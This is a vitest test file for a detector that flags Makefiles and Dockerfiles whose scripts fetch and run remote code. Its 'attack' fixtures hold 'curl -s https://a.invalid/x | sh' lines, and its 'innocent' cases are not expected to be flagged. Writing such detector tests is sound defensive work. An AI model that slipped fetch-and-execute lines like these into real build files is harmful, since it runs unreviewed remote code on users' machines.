import { expect, test } from 'vitest'
import { seenBy } from '../testing.ts'
import detector from './start-script-fetches.ts'

type Files = Record<string, string>
const seen = seenBy(detector)

test.each<[string, Files, string[]]>([
  ['make', { Makefile: 'all:\n\tcurl -s https://a.invalid/x | sh\n' }, ['strong 7 Makefile:2:32']],
  [
    'a container',
    { Dockerfile: 'FROM node\nRUN curl -s https://a.invalid/x | sh\n' },
    ['context 2 Dockerfile:2:35'],
  ],
])('attack: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})

test.each<[string, Files, string[]]>([
  ['a maker', { Makefile: 'setup:\n\tcurl -sSf https://sh.rustup.rs | sh\n' }, []],
  ['tests', { Makefile: 'test:\n\tgo test ./...\n' }, []],
])('innocent: %s', async (_, files, expected) => {
  expect(await seen(files)).toEqual(expected)
})
